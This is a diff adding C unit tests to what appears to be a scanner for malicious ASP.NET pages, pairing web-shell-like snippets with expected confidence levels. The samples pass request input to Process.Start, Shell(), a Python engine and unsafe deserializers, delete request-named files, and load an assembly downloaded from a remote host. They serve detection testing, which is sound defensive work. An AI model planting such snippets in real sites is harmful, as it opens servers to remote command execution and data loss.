@@ -202,6 +202,84 @@ static void secrets_of_the_server(void)
           NET(CS "<% var k = (KeyStore)Get(); Response.Write(k.ValidationKey); %>", NONE));
 }
 
+static void code_that_is_built(void)
+{
+    CHECK(NET(CS "<% var go = Expression.Call(typeof(Process).GetMethod(\"Start\"), "
+                 "Expression.Constant(\"cmd\"), Expression.Constant(Request[\"x\"])); %>",
+              CERTAIN),
+          NET(CS "<% var go = Expression.Call(typeof(Report).GetMethod(\"Show\"), "
+                 "Expression.Constant(Request[\"x\"])); %>",
+              WEAK),
+          NET(CS "<% var m = new DynamicMethod(\"m\", a, b); m.Invoke(null, new object[] { "
+                 "Request[\"x\"] }); %>",
+              LIKELY),
+          NET(CS "<% var m = new DynamicMethod(\"m\", a, b); m.Invoke(null, null); %>", WEAK),
+          NET(CS "<% var e = Python.CreateEngine(); e.Execute(Request[\"x\"]); %>", CERTAIN),
+          NET(CS "<% var e = Python.CreateEngine(); e.Execute(\"print 1\"); %>", WEAK),
+          NET(CS "<% Assembly.Load(new WebClient().DownloadData(\"http://h/a\")); %>", LIKELY));
+}
+
+static void objects_of_the_request(void)
+{
+    CHECK(NET(CS
+              "<% JsonConvert.DeserializeObject(Request[\"x\"], new JsonSerializerSettings { "
+              "TypeNameHandling = TypeNameHandling.All }); %>",
+              LIKELY),
+          NET(CS "<% JsonConvert.DeserializeObject(Request[\"x\"]); %>", NONE),
+          NET(CS "<% new XmlSerializer(Type.GetType(Request[\"t\"])); %>", LIKELY),
+          NET(CS "<% new XmlSerializer(typeof(Order)); %>", NONE),
+          NET(CS "<% System.Xaml.XamlServices.Parse(Request[\"x\"]); %>", LIKELY));
+}
+
+static void names_for_classes(void)
+{
+    CHECK(
+        NET("<%@ Page Language=\"C#\" %><%@ Import Namespace=\"P=System.Diagnostics.Process\" "
+            "%><% P.Start(\"cmd\", Request[\"x\"]); %>",
+            CERTAIN),
+        NET("<%@ Page Language=\"C#\" %><%@ Import Namespace=\"P=System.Text.Report\" "
+            "%><% P.Start(\"cmd\", Request[\"x\"]); %>",
+            NONE),
+        NET(CS BEGIN "class P : Process { } void Page_Load() { var p = new P(); "
+                     "p.StartInfo.Arguments = Request[\"x\"]; p.Start(); }" END,
+            CERTAIN),
+        NET(CS BEGIN "class P : Report { } void Page_Load() { var p = new P(); "
+                     "p.StartInfo.Arguments = Request[\"x\"]; p.Start(); }" END,
+            NONE));
+}
+
+static void objects_of_with(void)
+{
+    CHECK(NET(VB "<% With New Process\n.StartInfo.FileName = \"cmd\"\n.StartInfo.Arguments = "
+                 "Request(\"x\")\n.Start\nEnd With %>",
+              CERTAIN),
+          NET(VB "<% With New Report\n.StartInfo.FileName = \"cmd\"\n.StartInfo.Arguments = "
+                 "Request(\"x\")\n.Start\nEnd With %>",
+              NONE));
+}
+
+#define CODE(page, sure)                   \
+    {                                      \
+        page, ASP_KIND_CODE_CS, ASP_##sure \
+    }
+
+/* The controls stand in the page, and what the site's own code does is told less of. */
+static void code_of_pages(void)
+{
+    CHECK(CODE("public partial class A : System.Web.UI.Page { void Go(object s, EventArgs e) { "
+               "Process.Start(\"cmd\", words.Text); } }",
+               CERTAIN),
+          CODE("public class A : Report { void Go() { Process.Start(\"cmd\", words.Text); } }",
+               WEAK),
+          CODE("public class A : Controller { public ActionResult Go(string a) { "
+               "Process.Start(\"cmd\", a); return View(); } }",
+               CERTAIN),
+          CODE("public class A : Controller { void Go(string a) { File.Delete(a); } }", WEAK),
+          {"Partial Class A\nInherits System.Web.UI.Page\nSub Go()\nShell(words.Text)\nEnd "
+           "Sub\nEnd Class",
+           ASP_KIND_CODE_VB, ASP_CERTAIN});
+}
+
 /* A handler is its classes: what stands behind them is not counted. */
 static void handlers_with_padding(void)
 {
@@ -234,5 +312,10 @@ int main(void)
     T_RUN(what_answers_from_now_on);
     T_RUN(secrets_of_the_server);
     T_RUN(handlers_with_padding);
+    T_RUN(code_that_is_built);
+    T_RUN(objects_of_the_request);
+    T_RUN(names_for_classes);
+    T_RUN(objects_of_with);
+    T_RUN(code_of_pages);
     return t_done();
 }
